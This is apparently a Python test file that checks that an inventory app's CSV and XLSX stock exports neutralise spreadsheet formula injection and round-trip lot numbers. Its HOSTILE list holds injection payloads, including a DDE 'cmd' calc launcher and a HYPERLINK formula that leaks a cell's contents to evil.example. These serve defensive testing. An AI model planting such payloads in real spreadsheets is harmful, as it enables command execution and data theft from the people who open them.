"""A hostile lot number does not become a formula in the stock export, and reads back as it was."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from inventory import service
from inventory.spreadsheet import FORMULA_STARTS, read_cell, safe_cell
from tests.inventory.factories import Small, small_district

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def d(session: Session) -> Small:
    return small_district(session)


def _receive(client: TestClient, d: Small) -> None:
    for n, lot in enumerate(HOSTILE):
        answer = client.post(
            "/movements/receipts",
            json={
                "depot_id": d.depot_a_id,
                "item_id": d.tent_id,
                "lot_number": lot,
                "quantity": 5 + n,
            },
        )
        assert answer.status_code == 201, answer.text


def test_no_cell_of_the_csv_export_starts_a_formula(client: TestClient, d: Small) -> None:
    _receive(client, d)
    answer = client.get("/exports/stock", params={"format": "csv", "district_id": d.district_id})
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    lots = [row[2] for row in rows[2:]]
    assert sorted(lots) == sorted("'" + lot for lot in HOSTILE)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_the_xlsx_export_holds_text_never_formulas(client: TestClient, d: Small) -> None:
    _receive(client, d)
    answer = client.get("/exports/stock", params={"format": "xlsx", "district_id": d.district_id})
    assert answer.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    lots = {cell.value for cell in cells if cell.column_letter == "C"}
    assert set(HOSTILE) <= lots
    for cell in cells:
        if cell.value in HOSTILE:
            assert cell.data_type == "s"
            assert cell.quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_reads_back_as_a_count_sheet_with_the_original_lot_numbers(
    client: TestClient, session: Session, d: Small, fmt: str
) -> None:
    _receive(client, d)
    before = {b.lot_number: b.quantity for b in service.list_balances(session)}
    exported = client.get("/exports/stock", params={"format": fmt, "district_id": d.district_id})
    rows = exported.content
    if fmt == "csv":  # the counted column is the exported quantity plus one
        text = rows.decode("utf-8-sig").replace("quantity", "counted", 1)
        lines = text.splitlines()
        body = [
            lines[0],
            *(f"{line.rsplit(',', 1)[0]},{int(line.rsplit(',', 1)[1]) + 1}" for line in lines[2:]),
        ]
        data, name = "\n".join(body).encode("utf-8-sig"), "count.csv"
    else:
        book = openpyxl.load_workbook(io.BytesIO(rows))
        sheet = book.active
        assert sheet is not None
        sheet["F1"] = "counted"
        sheet.delete_rows(2)  # the HXL tags row
        for row in sheet.iter_rows(min_row=2):
            row[5].value = int(row[5].value) + 1
        out = io.BytesIO()
        book.save(out)
        data, name = out.getvalue(), "count.xlsx"
    answer = client.post(
        "/imports/counts", files={"file": (name, data, "application/octet-stream")}
    )
    assert answer.status_code == 201, answer.text
    after = {b.lot_number: b.quantity for b in service.list_balances(session)}
    assert after == {lot: quantity + 1 for lot, quantity in before.items()}


@pytest.mark.parametrize("value", [*HOSTILE, "\tx", "\rx", "plain", "'quoted", "", "水"])
def test_a_neutralised_cell_reads_back_as_it_was(value: str) -> None:
    assert read_cell(str(safe_cell(value))) == value


def test_numbers_are_not_neutralised() -> None:
    assert safe_cell(-5) == -5
